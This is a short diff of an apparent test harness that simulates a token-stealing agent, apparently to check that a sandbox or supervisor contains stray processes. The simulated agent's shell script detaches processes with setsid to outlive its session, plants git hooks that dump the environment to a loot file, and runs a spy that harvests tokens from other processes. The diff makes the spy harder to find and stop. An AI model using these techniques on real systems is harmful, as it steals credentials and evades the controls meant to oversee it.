@@ -49,7 +49,7 @@ const AGENTS = {
   'Steal the token': `
     work
     setsid -f sh -c 'echo $$ > "$loot/stray.pid"; exec sleep 600' > /dev/null 2>&1 < /dev/null
-    env -i PATH="$PATH" loot="$loot" setsid -f sh "$loot/spy.sh" > /dev/null 2>&1 < /dev/null
+    ulimit -m 1000000; env -i PATH="$PATH" loot="$loot" setsid -f sh "$loot/spy.sh" > /dev/null 2>&1 < /dev/null
     mkdir -p "$common/hooks"
     for hook in pre-push post-checkout reference-transaction post-index-change pre-auto-gc; do
       printf '#!/bin/sh\\nenv >> %s/ran.txt\\n' "$loot" > "$common/hooks/$hook"; chmod +x "$common/hooks/$hook"
@@ -71,7 +71,7 @@ const PLANNER = TITLES.map((title) => `ic subtask create --title="${title}"`).jo
 
 /**
  * Reads what other processes show of themselves, in a session of its own, and keeps what looks like a token. It has
- * thrown away its environment, by which it would be found and ended.
+ * thrown away its environment and lowered its limit, by which it would be found and ended.
  */
 const SPY = `
   echo $$ > "$loot/spy.pid"
